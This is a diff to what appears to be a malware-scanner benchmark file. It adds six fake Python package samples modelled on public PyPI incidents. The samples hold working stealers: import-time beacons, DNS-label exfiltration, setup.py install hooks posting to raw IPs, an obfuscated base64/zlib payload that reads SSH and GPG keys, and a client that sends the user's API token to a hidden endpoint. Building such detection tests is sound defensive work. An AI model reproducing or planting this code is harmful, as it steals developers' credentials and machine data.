@@ -1237,6 +1237,163 @@ SAMPLES = [
      "whitespace-only string decoded to code and exec'd by a class constructor run on import; fetches a stage",
      "Delgan/loguru issue #1363, loquru look-alike (2025)",
      ["hidden-code", "decode-run", "download-run", "import-time"]),
+
+    # --- Round 7 (helper "flow7", 2026-12-02): written and measured on the base build before
+    # that round's source-to-sink rule existed; weighted to import-time stealers and beacons.
+    # Re-written from the public descriptions named with each one, not copied.
+
+    # pypi/support issue #1334 (2021, user kot0x1's mass name squat): every package, on import
+    # (and so also when the sdist is built), asks a "what is my IP" service for the public
+    # address, reads the node name from os.uname() and the package's own install path, joins
+    # them, base64-encodes the text and sends it in the query string of a GET to the author's
+    # site together with the name of the company the squatted name targets.
+    ("demo-kotko-squat", "wheel", {"demo_kotko_squat/__init__.py":
+        "import os, base64, pathlib\nimport requests\n"
+        "company = 'acme'\nname = 'internal-billing'\n"
+        "ip = requests.get('https://api.ipify.example.org').text\n"
+        "myhost = os.uname()[1]\n"
+        "here = requests.utils.quote(bytes(pathlib.Path(__file__).parent.absolute()))\n"
+        "message = ip + ',' + myhost + ',(' + here + ')'\n"
+        "encoded = base64.b64encode(message.encode('ascii')).decode('ascii')\n"
+        "r = requests.get('https://kotko.example.me/?' + company + name + '=' + encoded)\n"},
+     "on import: public IP, node name and install path, base64 in the query of a GET to the author's site",
+     "pypi/support issue #1334, kot0x1 mass name squat (2021)",
+     ["beacon", "exfiltration", "import-time"]),
+
+    # pypi/warehouse issue #9940 (2021, 69 packages of user parasbhatia1912, the same code as
+    # the earlier nflx-* dependency-confusion packages): on import the module collects the
+    # fully-qualified host name, the home directory and the working directory into JSON,
+    # hex-encodes it, cuts it into 60-character labels under the author's domain and resolves
+    # each name, so the data leaves through DNS queries.
+    ("demo-dns-labels", "wheel", {"demo_dns_labels/__init__.py":
+        "import os, json, socket, random, string, binascii\n"
+        "PACKAGE = 'demo_dns_labels'\nSUFFIX = '.d.' + 'collect' + '-labs.example.com'\n"
+        "def _ident():\n"
+        "    return ''.join(random.choice(string.ascii_lowercase + string.digits) for _ in range(12))\n"
+        "def _names(text):\n"
+        "    raw = binascii.hexlify(text.encode('utf-8'))\n"
+        "    parts = [raw[i:i + 60] for i in range(0, len(raw), 60)]\n"
+        "    ident = _ident()\n"
+        "    return ['v2_f.{}.{}.{}.v2_e{}'.format(ident, n, c.decode('ascii'), SUFFIX) for n, c in enumerate(parts)]\n"
+        "def _try(fn, *a):\n"
+        "    try:\n        return fn(*a)\n    except Exception:\n        return 'err'\n"
+        "payload = json.dumps({'p': PACKAGE, 'h': _try(socket.getfqdn), 'd': _try(os.path.expanduser, '~'), 'c': _try(os.getcwd)})\n"
+        "for host in _names(payload):\n"
+        "    try:\n        socket.gethostbyname(host)\n    except Exception:\n        pass\n"},
+     "on import: host name, home and working directory hex-encoded into DNS labels and resolved",
+     "pypi/warehouse issue #9940, parasbhatia1912 packages (2021)",
+     ["exfiltration", "beacon", "import-time"]),
+
+    # SK-CSIRT advisory (2017) on ten typosquats (urlib3, acquisition, bzip, crypt, setup-tools,
+    # telnet, ...), as summarised in public write-ups: the squat behaves like the real library,
+    # but its setup.py, while installing, reports the fake package's name and version, the user
+    # name of whoever installs it and the host name to a server on TCP port 8080, the data
+    # lightly obscured (XOR with a fixed key, then base64) in an HTTP POST.
+    ("demo-urlib-squat", "sdist", {"setup.py":
+        "import os, sys, base64, socket, getpass\n"
+        "from setuptools import setup\n"
+        "try:\n    from urllib.request import Request, urlopen\n"
+        "except ImportError:\n    from urllib2 import Request, urlopen\n"
+        "def _x(data, key='dfq'):\n"
+        "    return bytes(b ^ ord(key[i % len(key)]) for i, b in enumerate(data.encode()))\n"
+        "def _report():\n"
+        "    info = 'Y:urlib3 1.22 U:' + getpass.getuser() + ' H:' + socket.gethostname() + ' P:' + sys.version.split()[0]\n"
+        "    body = base64.b64encode(_x(info))\n"
+        "    try:\n"
+        "        urlopen(Request('http://203.0.113.44:8080/', data=body), timeout=3)\n"
+        "    except Exception:\n"
+        "        pass\n"
+        "_report()\n"
+        "setup(name='demo-urlib-squat', version='1.22', packages=['urlib3'])\n",
+        "urlib3/__init__.py": "__version__ = '1.22'\n"},
+     "setup.py posts package, user and host names, XOR-ed and base64-encoded, to a raw IP at install",
+     "SK-CSIRT advisory on PyPI typosquats (2017)",
+     ["exfiltration", "beacon"]),
+
+    # dateutil/dateutil issue #984 (2019, python3-dateutil pulling jeIlyfish): the look-alike
+    # package's Levenshtein helper module carries a long base64 + zlib string that is decoded
+    # and executed when the module is imported; the decoded code reads the user's SSH and GPG
+    # key material and sends it, with the host name, to a server on a raw IP.
+    ("demo-jeilyfish", "wheel", {
+        "demo_jeilyfish/__init__.py": "from ._jellyfish import levenshtein_distance  # noqa\n",
+        "demo_jeilyfish/_jellyfish.py":
+            "import zlib\nimport base64\n"
+            "def levenshtein_distance(s1, s2):\n"
+            "    if s1 == s2:\n        return 0\n"
+            "    prev = list(range(len(s2) + 1))\n"
+            "    for i, a in enumerate(s1, 1):\n"
+            "        cur = [i]\n"
+            "        for j, b in enumerate(s2, 1):\n"
+            "            cur.append(min(prev[j] + 1, cur[j - 1] + 1, prev[j - 1] + (a != b)))\n"
+            "        prev = cur\n"
+            "    return prev[-1]\n"
+            "ZAUTH = ''\n"
+            + "".join("ZAUTH += '%s'\n" % chunk for chunk in (lambda t: [t[i:i + 64] for i in range(0, len(t), 64)])(
+                base64.b64encode(zlib.compress((
+                    "import os, glob, socket, urllib.request\n"
+                    "keys = []\n"
+                    "for pat in ('~/.ssh/id_*', '~/.gnupg/*.gpg', '~/.gnupg/private-keys-v1.d/*'):\n"
+                    "    for p in glob.glob(os.path.expanduser(pat)):\n"
+                    "        try:\n            keys.append(p + '\\n' + open(p).read())\n"
+                    "        except Exception:\n            pass\n"
+                    "data = ('%s\\n' % socket.gethostname() + '\\n'.join(keys)).encode()\n"
+                    "urllib.request.urlopen('http://192.0.2.79:8081/keys', data=data, timeout=5)\n"
+                ).encode())).decode()))
+            + "try:\n    exec(zlib.decompress(base64.b64decode(ZAUTH)))\nexcept Exception:\n    pass\n"},
+     "a helper module decodes a base64+zlib string on import; it reads SSH and GPG keys and posts them",
+     "dateutil/dateutil issue #984, python3-dateutil / jeIlyfish (2019)",
+     ["decode-run", "credential-theft", "exfiltration", "import-time"]),
+
+    # ossf/malicious-packages PR #1500 (2026, tsshare, a Tushare look-alike): no install hook;
+    # the client's default endpoint is a raw IP kept base64-encoded, and on API use it builds a
+    # hardware fingerprint (the Windows disk serial through PowerShell, the macOS hardware UUID
+    # through system_profiler, /etc/machine-id on Linux) and sends it with the user's API token
+    # to that hidden endpoint.
+    ("demo-tsshare", "wheel", {
+        "demo_tsshare/__init__.py": "from .client import pro_api, MyShareClient  # noqa\n",
+        "demo_tsshare/client.py":
+            "import base64, json, platform, subprocess, urllib.request\n"
+            "_BASE = base64.b64decode('" + base64.b64encode(b"https://198.51.100.75").decode() + "').decode()\n"
+            "def _fingerprint():\n"
+            "    system = platform.system()\n"
+            "    try:\n"
+            "        if system == 'Windows':\n"
+            "            return subprocess.check_output(['powershell', '-NoProfile', '-Command',\n"
+            "                '(Get-CimInstance Win32_DiskDrive | Select-Object -First 1).SerialNumber'], text=True).strip()\n"
+            "        if system == 'Darwin':\n"
+            "            out = subprocess.check_output(['system_profiler', 'SPHardwareDataType'], text=True)\n"
+            "            return [l.split(':', 1)[1].strip() for l in out.splitlines() if 'Hardware UUID' in l][0]\n"
+            "        with open('/etc/machine-id') as f:\n            return f.read().strip()\n"
+            "    except Exception:\n        return 'unknown'\n"
+            "class MyShareClient:\n"
+            "    def __init__(self, token=''):\n        self.token = token\n"
+            "    def query(self, api_name, **params):\n"
+            "        body = json.dumps({'api_name': api_name, 'token': self.token, 'params': params,\n"
+            "                           'fp': _fingerprint()}).encode()\n"
+            "        req = urllib.request.Request(_BASE + '/api', data=body, headers={'Content-Type': 'application/json'})\n"
+            "        return json.loads(urllib.request.urlopen(req, timeout=10).read())\n"
+            "def pro_api(token=''):\n    return MyShareClient(token)\n"},
+     "on API use: machine fingerprint and the user's token posted to a base64-hidden raw IP",
+     "ossf/malicious-packages PR #1500, tsshare (2026)",
+     ["exfiltration", "credential-theft", "hidden-code"]),
+
+    # pypi/warehouse issue #9924 (2021, aiohttps, an aiohttp look-alike): an install command
+    # class whose run() posts a fixed message to a raw IP on a high port before installing:
+    # a pure "I was installed" beacon, no data of the machine in the body.
+    ("demo-aiohttps-beacon", "sdist", {"setup.py":
+        "import setuptools\nfrom setuptools.command.install import install\nimport requests\n"
+        "class InstallCommand(install):\n"
+        "    def run(self):\n"
+        "        try:\n"
+        "            requests.post('http://203.0.113.38:8787/', data='installed')\n"
+        "        except Exception:\n"
+        "            pass\n"
+        "        install.run(self)\n"
+        "setuptools.setup(name='demo-aiohttps-beacon', version='0.0.1.1', packages=[],\n"
+        "                 cmdclass={'install': InstallCommand})\n"},
+     "install command posts a fixed beacon to a raw IP on a high port",
+     "pypi/warehouse issue #9924, aiohttps (2021)",
+     ["beacon"]),
 ]
 
 # The samples added by each round that marks them (bench/recall.py prints their count apart,
@@ -1251,3 +1408,6 @@ ROUNDS.update({name: "round 5" for name in (
 ROUNDS.update({name: "round 6" for name in (
     "demo-mrmustard", "demo-req-tools", "demo-pysprak", "demo-mistral-pyz", "demo-miasma-pth", "demo-evilpy",
     "demo-dlmm-sdk", "demo-infra-framework", "demo-aiohttp-connector", "demo-loquru")})
+ROUNDS.update({name: "round 7" for name in (
+    "demo-kotko-squat", "demo-dns-labels", "demo-urlib-squat", "demo-jeilyfish", "demo-tsshare",
+    "demo-aiohttps-beacon")})
